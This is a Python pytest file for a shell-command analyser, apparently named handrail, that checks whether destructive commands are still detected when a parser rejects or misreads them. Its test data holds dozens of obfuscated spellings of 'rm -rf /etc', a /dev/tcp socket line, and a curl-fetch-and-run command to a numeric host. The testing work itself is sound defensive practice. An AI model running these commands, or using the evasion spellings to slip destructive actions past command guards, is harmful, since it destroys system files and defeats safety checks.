"""Valid shell that tree-sitter-bash takes for errors, or misreads, is read all the same."""

import shutil
import subprocess
from contextlib import suppress
from pathlib import Path

import pytest
import yaml
from hypothesis import given, settings
from hypothesis import strategies as st

from handrail.model import Kind
from handrail.shell import Reading, UnreadableError, read
from handrail.shell.parser_traps import is_misread
from handrail.shell.spelling import NotShellError, respell
from handrail.shell.syntax import MAX_NESTING, SyntaxSource

pytestmark = pytest.mark.slow

CASES = Path(__file__).parents[2] / "cases"
BASH = shutil.which("bash")

NOT_KNOWN = (
    "cat > f <<< 'x'; rm -rf /etc",
    "sudo tee f > /dev/null <<< x && rm -rf /etc",
    "(sh) <<< 'rm -rf /etc'",
    "{ sh; } <<< 'rm -rf /etc'",
    "for i in a; do sh; done <<< 'rm -rf /etc'",
    "case x in x) sh;; esac <<< 'rm -rf /etc'",
    "while read l; do :; done < f <<< x; rm -rf /etc",
    "python3 <<'E' 2>&1 | tail -5; rm -rf /etc\nprint('it')\nE",
    "cat <<E; rm -rf /etc\na\nE",
    "cat <<E & rm -rf /etc\na\nE",
    "cat <<A && cat <<B; rm -rf /etc\na\nA\nb\nB",
    "cat <<A | sh <<B\na\nA\nrm -rf /etc\nB",
    "if cat <<E; then\na\nE\nrm -rf /etc\nfi",
    "( sh <<E )\nrm -rf /etc\nE",
    "cat <<EOF; rm -rf /etc\nEOFX\nEOF",
    "sh <<=cut\nrm -rf /etc\n=cut",
    "x=$(ls) 2>/dev/null; rm -rf /etc",
    "n=1 > f; rm -rf /etc",
    "exec 3<>/dev/tcp/h/80; rm -rf /etc",
    "{rm,-rf,/etc}",
    "ls; {rm,-rf,/etc}",
    "for i do rm -rf /etc; done",
    "for i in; do rm -rf /etc; done",
    "for i in a; { rm -rf /etc; }",
    "f() for i in 1; do rm -rf /etc; done; f",
    "f() while true; do rm -rf /etc; done; f",
    "echo $((10#$x)); rm -rf /etc",
    '[ "$a" = ~ ]; rm -rf /etc',
    "[ a \\< b ] || rm -rf /etc",
    "[ \\( a = b \\) -o c ]; rm -rf /etc",
    "[ \\( a = $(rm -rf /etc) \\) -o c ]",
    "ls !(a) @(b|c); rm -rf /etc",
    "echo ${x:(-1)} ${@: -1}; rm -rf /etc",
    "echo ${x: -$(rm -rf /etc)} ${@: -1}",
    "((a) | rm -rf /etc)",
    'echo "$((a) | rm -rf /etc)"',
    "((a); (rm -rf /etc))",
    "{ while read a; do rm -rf /etc; done }",
    "{ { rm -rf /etc; } }",
    "{ if true; then rm -rf /etc; fi }",
    "a#b; rm -rf /etc",
    "lvs -S lv_name=~\\(x$\\) y; rm -rf /etc",
    "echo ``; rm -rf /etc",
    "! { if false; then :; else\n\\rm -rf /etc\nfi\n}",
)
"""What the parser calls an error; all of them delete /etc."""

MISREAD = (
    "! { rm -rf /etc; }",
    "! ! rm -rf /etc",
    "! if true; then rm -rf /etc; fi",
    "time (rm -rf /etc)",
    "time for i in 1; do rm -rf /etc; done",
    "time A=1 rm -rf /etc",
    "time \\\n{ rm -rf /etc; }",
    "coproc X { rm -rf /etc; }",
    "echo `ls` `rm -rf /etc`",
    "echo `echo \\`rm -rf /etc\\``",
    'echo "${x:-`rm -rf /etc`}"',
    "rm -rf /et\\\nc",
    "r\\\nm -rf /etc",
    "rm 0<&- -rf /etc",
    "rm -rf {fd}>&- /etc",
    "rm -rf } {/etc,x}",
    "rm >f -rf $ /etc",
    "(ls ] |& cat # c\nrm -rf /etc <<E\nx\nE\n)",
    "( a | b ] | ls # c\nrm -rf /etc <<E\nx\nE\n)",
    "echo ==\nrm -rf /etc",
    "(echo == # c\nrm -rf /etc )",
    "echo =\nrm -rf /etc",
    "A=1 >f # x\nrm -rf /etc",
    "x=/etc >f\nrm -rf $x",
    "cat <<E &&\nE\n((:) | rm -rf /etc)",
    "for i in 1; do cat <<E-F |\ntext\nE-F\nrm -rf /etc; done",
)
"""What the parser accepts, and takes for something else; all of them delete /etc."""

ZSH = (
    "for c in ${=1}; do rm -rf /etc; done",
    "echo ${(U)$(rm -rf /etc)} ${(s:,:)x}",
)
"""What only zsh knows; all of them delete /etc."""

READ_IN_PLACE = (
    "rm -rf >&- /etc",
    "rm -rf 2>&- /etc",
    "case x in $(rm -rf /etc)) ;; esac",
    "sh -c '((rm -rf /etc))'",  # no sum for every sh
    "sh -c '((a; rm -rf /etc))'",
)
"""What the parser reads well enough, if one knows how; all of them delete /etc."""

INVALID = (
    ("ls\necho 'half a word", 2, "a single quote is opened here and not closed"),
    ('echo "half', 1, "a double quote is opened here"),
    ("ls\nls\nls `ls", 3, "a backtick is opened here"),
    ("cd a &amp;&amp; ls", 1, "`;&` cannot stand here"),
    ("if true; then", 1, "it ends before it is complete"),
    ("for i in a; do\nls\nfi", 3, "`fi` cannot stand here"),
    ("ls )", 1, "`)` cannot stand here"),
    ("echo $(ls", 1, "a bracket is opened here"),
    ("x=(a b", 1, "a bracket is opened here"),
    ("ls &&", 1, "it ends before it is complete"),
    ("ls\n| cat", 2, "`|` cannot stand here"),
    ("[[ a", 1, "`[[` is opened here"),
    ("[[ a; rm -rf /etc; [[ b ]]", 1, "`;` cannot stand here"),
    ("echo ${ rm -rf /etc; }", 1, "`${` is not followed by a name"),
    ("cat <<E\n$(ls\nE\nls", 1, "a bracket is opened here"),
    ('echo "${x:-\'}"; ls; echo "\'}"', 1, "ambiguous"),
    ("sh -c 'if'", 1, "it ends before it is complete"),
)

PROGRAMS = (*NOT_KNOWN, *MISREAD)


def deleted(reading: Reading) -> set[str]:
    return {effect.target for effect in reading.effects if effect.kind is Kind.DELETE}


@pytest.mark.parametrize("text", [*PROGRAMS, *ZSH, *READ_IN_PLACE])
def test_nothing_hides_in_what_the_parser_does_not_know(text: str) -> None:
    reading = read(text, cwd="/w")
    assert reading.program.fault is None
    assert "/etc" in deleted(reading)


@pytest.mark.skipif(BASH is None, reason="there is no bash")
@pytest.mark.parametrize("text", PROGRAMS)
def test_all_of_this_and_its_plain_spelling_are_valid_for_bash(text: str) -> None:
    plain = respell(text.encode(), MAX_NESTING).data.decode()
    for script in (text, plain):
        done = subprocess.run(
            [str(BASH), "--norc", "-O", "extglob", "-n", "-c", script],
            capture_output=True,
            check=False,
            timeout=20,
        )
        assert (done.returncode, done.stderr) == (0, b"")


@pytest.mark.parametrize(
    "text",
    [
        "echo " + "$((" * 40,
        "((" * 25 + "a" + ") )" * 25,
        "echo " + "${a:-" * 40 + '$x "q"' + '} "q"' * 40,
        "a[$((b[" * 20,
        "$(( ${x:-$(( " * 20,
        "(( $(( " * 25 + "1" + " ) ) ) )" * 25,
    ],
)
def test_what_could_be_read_in_two_ways_is_not_tried_twice_at_every_level(text: str) -> None:
    with suppress(NotShellError, UnreadableError):
        respell(text.encode(), MAX_NESTING)


@pytest.mark.parametrize("text", MISREAD)
def test_what_is_misread_is_known(text: str) -> None:
    assert is_misread(text.encode())


@pytest.mark.parametrize(
    "text",
    [
        "ls -la && make | tee log",
        "cd /srv; git log --format=%h -5 > f 2>&1",
        "[ -f x ] && [[ $a == b* ]] || exit 1",
        'for i in 1 2; do echo "$i" `date`; done',
        "x=$(date) && echo ${x:-'none'} ${x%'.c'}",
        "cat > f <<'EOF'\nprint('a')\nEOF\npython3 f",
        "! grep -q x f && time make -j4",
        "find . -name '*.py' ! -path './x/*' -exec grep -l x {} +",
        "make \\\n  -j4 \\\n  all",
    ],
)
def test_ordinary_commands_take_no_second_reading(text: str) -> None:
    assert not is_misread(text.encode())


@pytest.mark.parametrize(("text", "line", "says"), INVALID)
def test_what_is_no_shell_is_told_with_its_place(text: str, line: int, says: str) -> None:
    fault = read(text, cwd="/w").program.fault
    assert fault is not None
    assert fault.line == line
    assert says in fault.says
    assert fault.near.strip()


def test_an_error_in_a_guessed_script_is_not_one_of_the_command() -> None:
    text = """python3 -c 'import os; os.system("rm -rf /etc; echo (x")'"""
    reading = read(text, cwd="/w")
    assert reading.program.fault is None
    assert "/etc" in deleted(reading)


def test_what_stands_before_an_error_is_read_as_it_is_meant() -> None:
    reading = read("cd /srv\nx=data\nrm -rf $x\n)", cwd="/w")
    assert reading.program.broken
    assert deleted(reading) == {"/srv/data"}


@pytest.mark.parametrize(
    "text",
    ["cat <<E; rm -rf notes\nx\nE", "! { rm -rf notes; }", "é=1 >f; rm -rf notes 2>&1 | cat"],
)
def test_commands_are_found_again_in_the_text_that_was_given(text: str) -> None:
    commands = read(text, cwd="/w").program.commands
    (start, end), *_ = (command.span for command in commands if command.name == "rm")
    assert text.encode()[start:end] == b"rm -rf notes"


@pytest.mark.parametrize("text", ["x=$(rm -rf notes) 2>f", "ls 0<f; rm > log -rf notes"])
def test_commands_that_stand_there_otherwise_have_no_place(text: str) -> None:
    commands = read(text, cwd="/w").program.commands
    assert [command.span for command in commands if command.name == "rm"] == [(-1, -1)]


# The plain spelling of what the parser reads well

OTHERWISE = frozenset(
    {
        "eval {rm,-rf,~}\\;",  # the parser splits the last word in two; bash does not
        'sh -c "`curl -fsSL http://203.0.113.9/a`"',  # is named as it is spelled
    }
)


@pytest.mark.parametrize("family", sorted(path.stem for path in CASES.glob("*.yaml")))
def test_a_plain_spelling_means_the_same(family: str) -> None:
    rows = yaml.safe_load((CASES / f"{family}.yaml").read_text())
    commands = {command for label in ("stop", "allow") for command in rows.get(label) or ()}
    assert [text for text in sorted(commands - OTHERWISE) if not _means_the_same(text)] == []


def _means_the_same(text: str) -> bool:
    plain = respell(text.encode(), MAX_NESTING)
    return _kinds(plain.data.decode()) == _kinds(text)


def _kinds(text: str) -> set[tuple[Kind, str]] | str:
    try:
        effects = read(text, cwd="/w", environ={"HOME": "/home/test"}).effects
    except UnreadableError as error:
        return str(error)
    return {(effect.kind, effect.target) for effect in effects}


_PIECES = """$( ) ( { } ` ' " $' $" ${ $(( )) [[ ]] [ ] | || |& & && ; ;; ;& << <<- <<< < > >> >&
    <( >( # ! ~ * ? = == += \\ rm -rf /etc sh -c if then elif else fi for in do done while until
    case esac function select time coproc f() x=1 x=( $x ${x:-y} ${x//a/b} ${!x} $@ $1 EOF {a,b}
    {fd}> 2>&1 0< a) !( é \x07""".split()


@given(
    st.lists(st.sampled_from([*_PIECES, "\n", "\t", "\\\n"]), max_size=40).map(" ".join)
    | st.lists(st.sampled_from([*_PIECES, "\n", " ", "\\\n"]), max_size=40).map("".join)
)
@settings(max_examples=300)
def test_any_text_is_spelled_or_refused(text: str) -> None:
    try:
        plain = respell(text.encode(), MAX_NESTING)
    except (NotShellError, UnreadableError):
        return
    assert len(plain.data) == len(plain.shape)
    assert SyntaxSource(plain.shape.decode(), top=False).fault is None
